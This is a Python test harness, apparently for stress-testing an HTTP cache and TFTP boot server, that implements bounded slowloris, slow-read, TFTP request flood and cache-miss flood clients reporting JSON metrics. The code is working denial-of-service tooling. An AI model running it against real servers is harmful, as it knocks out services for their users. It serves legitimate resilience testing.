#!/usr/bin/env python3
"""Attack clients for tests/attack.sh, each bounded in time and count.

Every mode prints one JSON object of figures on stdout when it ends.

  slowloris  HOST PORT  --sources A-B --conns N --every S --duration S
      N connections spread over the source addresses; each sends a request line and then one
      header line every S seconds, never the blank line that ends the headers. A connection
      the server closes is counted and opened again (until the duration ends).
  slowread   HOST PORT PATH --sources A-B --conns N --duration S
      N connections with a 4 KiB receive buffer that ask for PATH and never read.
  tftp-flood HOST --sources A-B --rate R --duration S [--option NAME=VALUE ...]
      read requests (with the options) at R per second from many ports of the source
      addresses, never acknowledged; replies are counted by kind.
  misses     HOST PORT --names N --repeat R --threads T
      GET /miss-I/a/b/file.img (I < N), each R times, T at a time, for names the upstream
      does not have.
"""

import argparse
import ipaddress
import json
import selectors
import socket
import struct
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection


def sources(spec):
    """'10.77.0.100-10.77.0.149' or one address."""
    if "-" not in spec:
        return [spec]
    first, last = (ipaddress.IPv4Address(a) for a in spec.split("-", 1))
    return [str(ipaddress.IPv4Address(i)) for i in range(int(first), int(last) + 1)]


def connect(host, port, source, rcvbuf=None, timeout=3.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.bind((source, 0))
    s.settimeout(timeout)
    try:
        s.connect((host, port))
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return s


def slowloris(a):
    addrs = sources(a.sources)
    sel = selectors.DefaultSelector()
    opened = failed = closed = 0
    lifetimes = []
    live = {}  # socket -> (opened at, header lines sent)
    start = time.monotonic()
    deadline = start + a.duration
    next_line = start + a.every
    max_open = 0
    n = 0
    while time.monotonic() < deadline:
        # Top up to N open connections.
        while len(live) < a.conns and time.monotonic() < deadline:
            s = connect(a.host, a.port, addrs[n % len(addrs)])
            n += 1
            if s is None:
                failed += 1
                if failed > 50 * a.conns:
                    break
                continue
            try:
                s.send(b"GET / HTTP/1.1\r\nHost: x\r\n")
            except OSError:
                s.close()
                closed += 1
                continue
            opened += 1
            live[s] = (time.monotonic(), 0)
            sel.register(s, selectors.EVENT_READ)
        max_open = max(max_open, len(live))
        # The server closing (EOF, reset, or a 503 then EOF) makes the socket readable.
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                sel.unregister(s)
                lifetimes.append(time.monotonic() - live.pop(s)[0])
                s.close()
                closed += 1
        if time.monotonic() >= next_line:
            next_line += a.every
            for s in list(live):
                t, k = live[s]
                try:
                    s.send(b"X-Slow-%d: 1\r\n" % k)
                    live[s] = (t, k + 1)
                except OSError:
                    pass
    open_at_end = len(live)
    for s in live:
        s.close()
    lifetimes.sort()
    return {
        "opened": opened,
        "connect_failed": failed,
        "closed_by_server": closed,
        "max_open": max_open,
        "open_at_end": open_at_end,
        "lifetime_median_s": round(lifetimes[len(lifetimes) // 2], 2) if lifetimes else None,
        "lifetime_max_s": round(lifetimes[-1], 2) if lifetimes else None,
    }


def slowread(a):
    addrs = sources(a.sources)
    held = []
    failed = 0
    request = ("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % a.path).encode()
    for i in range(a.conns):
        s = connect(a.host, a.port, addrs[i % len(addrs)], rcvbuf=4096)
        if s is None:
            failed += 1
            continue
        try:
            s.send(request)
            held.append(s)
        except OSError:
            s.close()
            failed += 1
    time.sleep(a.duration)
    # Never read: whatever the server does is seen from its side (its descriptors and
    # connections); the kernel still holds what it had sent.
    for s in held:
        s.close()
    return {"requests": len(held), "connect_failed": failed}


def tftp_request(name, options):
    out = struct.pack("!H", 1) + name.encode() + b"\0octet\0"
    for k, v in options:
        out += k.encode() + b"\0" + v.encode() + b"\0"
    return out


def tftp_flood(a):
    addrs = sources(a.sources)
    options = [tuple(o.split("=", 1)) for o in a.option]
    packet = tftp_request(a.file, options)
    sel = selectors.DefaultSelector()
    socks = []
    for i in range(a.sockets):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((addrs[i % len(addrs)], 0))
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        socks.append(s)
    counts = {"requests": 0, "data": 0, "oack": 0, "oack_with_timeout": 0, "busy": 0, "error_other": 0}
    transfers = set()
    start = time.monotonic()
    deadline = start + a.duration
    interval = 1.0 / a.rate
    next_send = start
    i = 0
    while True:
        now = time.monotonic()
        if now >= deadline + 1.0:  # one more second for the replies in flight
            break
        while now < deadline and next_send <= now:
            try:
                socks[i % len(socks)].sendto(packet, (a.host, 69))
                counts["requests"] += 1
            except OSError:
                pass
            i += 1
            next_send += interval
        for key, _ in sel.select(timeout=min(interval, 0.05)):
            s = key.fileobj
            while True:
                try:
                    data, peer = s.recvfrom(70000)
                except OSError:
                    break
                op = struct.unpack("!H", data[:2])[0] if len(data) >= 2 else 0
                if op == 3:
                    counts["data"] += 1
                    transfers.add((s.getsockname(), peer))
                elif op == 6:
                    counts["oack"] += 1
                    transfers.add((s.getsockname(), peer))
                    if b"timeout\0" in data.lower():
                        counts["oack_with_timeout"] += 1
                elif op == 5:
                    if b"busy" in data:
                        counts["busy"] += 1
                    else:
                        counts["error_other"] += 1
    counts["transfers_started"] = len(transfers)
    for s in socks:
        s.close()
    return counts


def misses(a):
    statuses = {}
    lock = threading.Lock()

    def one(path):
        c = HTTPConnection(a.host, a.port, timeout=10)
        try:
            c.request("GET", path, headers={"Connection": "close"})
            status = c.getresponse().status
        except OSError:
            status = 0
        finally:
            c.close()
        with lock:
            statuses[status] = statuses.get(status, 0) + 1

    paths = ["/miss-%d/a/b/file.img" % (i % a.names) for i in range(a.names * a.repeat)]
    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=a.threads) as pool:
        list(pool.map(one, paths))
    return {
        "requests": len(paths),
        "names": a.names,
        "statuses": {str(k): v for k, v in sorted(statuses.items())},
        "seconds": round(time.monotonic() - started, 1),
    }


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="mode", required=True)
    s = sub.add_parser("slowloris")
    s.add_argument("host")
    s.add_argument("port", type=int)
    s.add_argument("--sources", required=True)
    s.add_argument("--conns", type=int, default=1000)
    s.add_argument("--every", type=float, default=2.0)
    s.add_argument("--duration", type=float, default=20.0)
    s = sub.add_parser("slowread")
    s.add_argument("host")
    s.add_argument("port", type=int)
    s.add_argument("path")
    s.add_argument("--sources", required=True)
    s.add_argument("--conns", type=int, default=512)
    s.add_argument("--duration", type=float, default=20.0)
    s = sub.add_parser("tftp-flood")
    s.add_argument("host")
    s.add_argument("--sources", required=True)
    s.add_argument("--file", default="undionly.kpxe")
    s.add_argument("--rate", type=float, default=200.0)
    s.add_argument("--sockets", type=int, default=256)
    s.add_argument("--duration", type=float, default=15.0)
    s.add_argument("--option", action="append", default=[])
    s = sub.add_parser("misses")
    s.add_argument("host")
    s.add_argument("port", type=int)
    s.add_argument("--names", type=int, default=200)
    s.add_argument("--repeat", type=int, default=10)
    s.add_argument("--threads", type=int, default=16)
    a = p.parse_args()
    modes = {"slowloris": slowloris, "slowread": slowread, "tftp-flood": tftp_flood, "misses": misses}
    print(json.dumps(modes[a.mode](a)))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
